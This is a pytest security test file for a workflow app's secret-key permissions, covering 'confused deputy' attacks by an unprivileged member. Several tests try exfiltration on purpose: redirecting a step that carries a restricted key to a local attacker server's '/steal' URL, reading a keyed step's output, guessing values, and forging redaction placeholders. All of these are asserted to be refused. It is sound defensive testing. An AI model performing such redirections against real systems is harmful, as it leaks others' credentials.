"""Nobody gets a key through someone else's workflow (issue: "confused deputy").

A run uses the rights of whoever runs it, while its steps may have been shaped by someone
else. The attacker here is dave (``member_nothing``: a member with no grant on the
Restricted key "Stripe live"); the victim is bob (``member_use``: Use on it), who built a
workflow that sends the key to his ledger service and who runs it. Every door is tried
over real HTTP against a live server: the API with a token, and the pages with a signed-in
session and CSRF token, as a browser would. The attacker runs his own HTTP server on
127.0.0.1 and checks that nothing ever reaches it.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import ThreadingHTTPServer

import httpx
import pytest

from secretsapp.models import AuditAction, AuditEvent
from tests.conftest import (
    RESTRICTED_VALUE,
    Personas,
    _EchoHandler,
    api,
    browser,
    code_action,
    http_action,
)
from workflows.models import Action, Run, Workflow

KEY_NAME = "Stripe live"  # personas.restricted_key


@pytest.fixture
def attacker_server() -> Iterator[ThreadingHTTPServer]:
    """The attacker's own server, on 127.0.0.1 like every target of the tests."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _EchoHandler)
    server.requests = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def ledger(live_server, personas: Personas, echo_server) -> Workflow:
    """bob's workflow: step 1 sends the Restricted key to his ledger (the echo server),
    step 2 is a harmless summary that reads no key."""
    bob = api(live_server, personas.member_use)
    workflow = bob.post("/workflows/", json={"name": "Ledger sync"}).json()
    for name, action_type, config in [
        (
            "Post to ledger",
            "send_api_request",
            http_action(
                f"{echo_server.url}/echo",
                method="POST",
                headers=[
                    {"name": "X-Ledger", "value": f"{{{{secret:{personas.restricted_key.pk}}}}}"}
                ],
            ),
        ),
        ("Summary", "run_code", code_action("return 'done'")),
    ]:
        created = bob.post(
            "/actions/",
            json={"workflow": workflow["id"], "name": name, "type": action_type, "config": config},
        )
        assert created.status_code == 201, created.text
    return Workflow.objects.get(pk=workflow["id"])


def _state(workflow: Workflow) -> list:
    return [
        Workflow.objects.filter(pk=workflow.pk).values_list("name", "inputs").first(),
        list(
            Action.objects.filter(workflow=workflow)
            .order_by("position")
            .values_list("pk", "position", "name", "config")
        ),
    ]


def _assert_refused(response: httpx.Response) -> None:
    assert response.status_code == 403, response.text
    text = response.text
    assert "uses secret keys you may not use" in text
    assert KEY_NAME not in text and RESTRICTED_VALUE not in text


def test_repointing_a_step_that_holds_a_key_is_refused_and_nothing_reaches_the_attacker(
    live_server, personas: Personas, ledger: Workflow, echo_server, attacker_server
):
    dave = api(live_server, personas.member_nothing)
    first = ledger.actions.get(position=1)
    before = _state(ledger)
    config = {**first.config, "url": f"{attacker_server.url}/steal"}

    refused = dave.patch(f"/actions/{first.pk}/", json={"config": config})

    _assert_refused(refused)
    assert "alice-admin" in refused.json()["detail"]  # whom to ask
    assert _state(ledger) == before
    # The refusal is audited against the key, naming dave and the workflow.
    denial = AuditEvent.objects.get(action=AuditAction.DENIED, actor=personas.member_nothing)
    assert denial.secret_key_id == personas.restricted_key.pk
    assert denial.changes == {"needed": "use", "workflow_id": ledger.pk}

    # bob runs his workflow: the value goes to his ledger only.
    run = api(live_server, personas.member_use).post(f"/workflows/{ledger.pk}/runs/", json={})
    assert run.status_code == 200, run.text
    assert echo_server.requests[-1]["headers"]["X-Ledger"] == RESTRICTED_VALUE
    assert attacker_server.requests == []


def test_adding_a_step_that_reads_a_keyed_steps_output_is_refused(
    live_server, personas: Personas, ledger: Workflow
):
    dave = api(live_server, personas.member_nothing)
    before = _state(ledger)
    reverse = code_action("return variables['x'][::-1]", x="{{steps.1.body}}")

    refused = dave.post(
        "/actions/",
        json={"workflow": ledger.pk, "name": "Reverse", "type": "run_code", "config": reverse},
    )

    _assert_refused(refused)
    assert _state(ledger) == before


def test_guessing_needs_a_step_in_the_workflow_and_a_run_without_the_key_is_no_oracle(
    live_server, personas: Personas, ledger: Workflow
):
    dave = api(live_server, personas.member_nothing)
    guesses = [RESTRICTED_VALUE, "not-the-value-0123456789"]
    guessing = code_action(f"return {guesses!r}")

    # Into bob's workflow (where the run would hold the value to compare against): 403.
    refused = dave.post(
        "/actions/",
        json={"workflow": ledger.pk, "name": "Guess", "type": "run_code", "config": guessing},
    )
    _assert_refused(refused)

    # In his own workflow the run holds no key, so a right guess comes back exactly as a
    # wrong one: redaction has nothing to compare against.
    own = dave.post("/workflows/", json={"name": "Guesses"}).json()
    action = dave.post(
        "/actions/",
        json={"workflow": own["id"], "name": "Guess", "type": "run_code", "config": guessing},
    ).json()
    executed = dave.post(f"/actions/{action['id']}/execute/", json={}).json()
    assert executed["output"]["result"] == guesses


@pytest.mark.parametrize(
    "change",
    [
        "move a step",
        "remove a step",
        "rename the workflow",
        "change its inputs",
        "delete the workflow",
    ],
)
def test_every_other_change_of_the_workflow_is_refused_over_the_api(
    live_server, personas: Personas, ledger: Workflow, change: str
):
    dave = api(live_server, personas.member_nothing)
    second = ledger.actions.get(position=2)
    before = _state(ledger)
    send = {
        "move a step": lambda: dave.patch(f"/actions/{second.pk}/", json={"position": 1}),
        "remove a step": lambda: dave.delete(f"/actions/{second.pk}/"),
        "rename the workflow": lambda: dave.patch(
            f"/workflows/{ledger.pk}/", json={"name": "Mine now"}
        ),
        "change its inputs": lambda: dave.patch(f"/workflows/{ledger.pk}/", json={"inputs": ["x"]}),
        "delete the workflow": lambda: dave.delete(f"/workflows/{ledger.pk}/"),
    }[change]

    _assert_refused(send())
    assert _state(ledger) == before


@pytest.mark.parametrize(
    "page",
    ["settings", "delete", "action_add", "action_save", "action_move", "action_delete"],
)
def test_every_change_is_refused_on_the_pages(
    live_server, personas: Personas, ledger: Workflow, attacker_server, page: str
):
    dave = browser(live_server, personas.member_nothing)
    first = ledger.actions.get(position=1)
    before = _state(ledger)
    url, data = {
        "settings": (f"/workflows/{ledger.pk}/settings/", {"name": "Mine", "inputs": ""}),
        "delete": (f"/workflows/{ledger.pk}/delete/", {}),
        "action_add": (f"/workflows/{ledger.pk}/actions/new/", {"type": "run_code"}),
        "action_save": (
            f"/workflows/{ledger.pk}/actions/{first.pk}/",
            {
                "name": "Post to ledger",
                "method": "POST",
                "url": f"{attacker_server.url}/steal",
                "body-type": "none",
                "header-name": "X-Ledger",
                "header-value": f"{{{{secret:{personas.restricted_key.pk}}}}}",
            },
        ),
        "action_move": (
            f"/workflows/{ledger.pk}/actions/{first.pk}/move/",
            {"direction": "down"},
        ),
        "action_delete": (f"/workflows/{ledger.pk}/actions/{first.pk}/delete/", {}),
    }[page]

    response = dave.post(url, data=data)

    assert response.status_code == 403, response.text[:500]
    assert KEY_NAME not in response.text and RESTRICTED_VALUE not in response.text
    assert _state(ledger) == before
    assert attacker_server.requests == []


def test_the_builder_is_read_only_for_a_member_without_use_and_says_whom_to_ask(
    live_server, personas: Personas, ledger: Workflow
):
    page = browser(live_server, personas.member_nothing).get(f"/workflows/{ledger.pk}/")
    assert page.status_code == 200
    assert "Read-only for you" in page.text
    assert "uses secret keys you may not use" in page.text
    assert "Ask its creator bob-use or an organization admin (alice-admin)" in page.text
    assert "Save step" not in page.text and "Add a step" not in page.text
    assert KEY_NAME not in page.text and RESTRICTED_VALUE not in page.text

    owner_page = browser(live_server, personas.member_use).get(f"/workflows/{ledger.pk}/")
    assert "Save step 1" in owner_page.text and "Read-only for you" not in owner_page.text


def test_admins_and_members_with_use_still_change_the_workflow(
    live_server, personas: Personas, ledger: Workflow
):
    for user, name in [(personas.admin, "Ledger (admin)"), (personas.member_manage, "Ledger")]:
        renamed = api(live_server, user).patch(f"/workflows/{ledger.pk}/", json={"name": name})
        assert renamed.status_code == 200, renamed.text
        assert renamed.json()["name"] == name


@pytest.fixture
def bobs_run(live_server, personas: Personas, ledger: Workflow, echo_server) -> Run:
    """bob ran the workflow: his ledger echoed the key back in its answer."""
    response = api(live_server, personas.member_use).post(f"/workflows/{ledger.pk}/runs/", json={})
    assert response.status_code == 200, response.text
    body = response.json()
    # bob made the run: he sees the key's name in its placeholders.
    assert f"[redacted:{KEY_NAME}]" in json.dumps(body)
    assert RESTRICTED_VALUE not in response.text
    return Run.objects.get(pk=body["id"])


@pytest.mark.parametrize("persona", ["member_nothing", "viewer"])
def test_a_run_reveals_nothing_to_readers_without_use_over_the_api(
    live_server, personas: Personas, bobs_run: Run, persona: str
):
    reader = api(live_server, personas.by_name(persona))
    one = reader.get(f"/runs/{bobs_run.pk}/")
    listed = reader.get("/runs/", params={"workflow": bobs_run.workflow_id})
    assert one.status_code == listed.status_code == 200
    run = one.json()
    assert listed.json()["results"] == [run]
    assert run["outputs_hidden"] is True
    assert run["inputs"] == {}
    assert [(step["status"], step["output"], step["error"]) for step in run["steps"]] == [
        ("succeeded", None, ""),
        ("succeeded", None, ""),
    ]
    for response in (one, listed):
        assert KEY_NAME not in response.text and RESTRICTED_VALUE not in response.text
        assert str(personas.restricted_key.pk) not in response.text


@pytest.mark.parametrize("persona", ["member_use", "member_manage", "admin"])
def test_readers_with_use_see_the_outputs_with_the_keys_name(
    live_server, personas: Personas, bobs_run: Run, persona: str
):
    run = api(live_server, personas.by_name(persona)).get(f"/runs/{bobs_run.pk}/")
    body = run.json()
    assert body["outputs_hidden"] is False
    echoed = body["steps"][0]["output"]["body"]["headers"]["X-Ledger"]
    assert echoed == f"[redacted:{KEY_NAME}]"
    assert RESTRICTED_VALUE not in run.text


def test_the_run_page_hides_the_outputs_from_a_reader_without_use(
    live_server, personas: Personas, bobs_run: Run
):
    hidden = browser(live_server, personas.member_nothing).get(f"/workflows/runs/{bobs_run.pk}/")
    assert hidden.status_code == 200
    assert "this run used secret keys you may not use" in hidden.text
    assert "X-Ledger" not in hidden.text  # no output at all
    assert KEY_NAME not in hidden.text and RESTRICTED_VALUE not in hidden.text

    shown = browser(live_server, personas.member_use).get(f"/workflows/runs/{bobs_run.pk}/")
    assert f"[redacted:{KEY_NAME}]" in shown.text and "X-Ledger" in shown.text
    assert RESTRICTED_VALUE not in shown.text


def test_a_forged_placeholder_does_not_name_a_key_to_a_reader_without_use(
    live_server, personas: Personas
):
    """Stored placeholders carry the key's id; code that prints one for a key it never
    held gets ``[redacted]`` back, not the key's name."""
    dave = api(live_server, personas.member_nothing)
    own = dave.post("/workflows/", json={"name": "Forgery"}).json()
    forged = f"[redacted:{personas.restricted_key.pk}]"
    action = dave.post(
        "/actions/",
        json={
            "workflow": own["id"],
            "name": "Forge",
            "type": "run_code",
            "config": code_action(f"return {forged!r}"),
        },
    ).json()
    run_id = dave.post(f"/actions/{action['id']}/execute/", json={}).json()["run_id"]
    read = dave.get(f"/runs/{run_id}/")
    assert read.json()["steps"][0]["output"]["result"] == "[redacted]"
    assert KEY_NAME not in read.text


def test_losing_use_makes_the_workflow_read_only_and_its_old_runs_hidden(
    live_server, personas: Personas, ledger: Workflow, bobs_run: Run
):
    from secretsapp import services as secret_services

    secret_services.update_secret_key(
        personas.admin,
        personas.restricted_key,
        grants=[
            {"principal_type": "user", "principal_id": personas.member_manage.pk, "level": "manage"}
        ],
    )
    bob = api(live_server, personas.member_use)
    _assert_refused(bob.patch(f"/workflows/{ledger.pk}/", json={"name": "Still mine?"}))
    assert bob.get(f"/runs/{bobs_run.pk}/").json()["outputs_hidden"] is True
